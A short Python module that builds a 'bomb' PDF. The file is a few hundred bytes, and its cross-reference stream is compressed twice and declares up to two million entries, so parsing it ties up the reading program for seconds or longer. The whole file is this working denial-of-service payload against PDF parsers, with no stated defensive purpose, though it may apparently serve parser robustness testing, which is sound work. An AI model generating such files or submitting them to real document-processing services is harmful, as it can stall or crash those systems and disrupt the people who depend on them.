"""A PDF of a few hundred bytes that keeps its parser busy."""

import zlib


def bomb_pdf(numbers: int = 2_000_000) -> bytes:
    """A PDF of one page in a few hundred bytes, whose table has this many numbers (half a million take seconds)."""
    parts = [
        b"%PDF-1.7",
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj",
        b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj",
        b"3 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj",
    ]
    at = sum(len(part) + 1 for part in parts)
    table = zlib.compress(zlib.compress(bytes(numbers), 9), 9)
    about = b"/Type/XRef/W[0 1 0]/Index[0 %d]/Size %d/Root 1 0 R" % (numbers, numbers)
    about += b"/Length %d/Filter[/FlateDecode/FlateDecode]" % len(table)
    parts += [b"4 0 obj\n<<%b>>stream" % about, table, b"endstream\nendobj\nstartxref\n%d\n%%%%EOF" % at]
    return b"\n".join(parts)
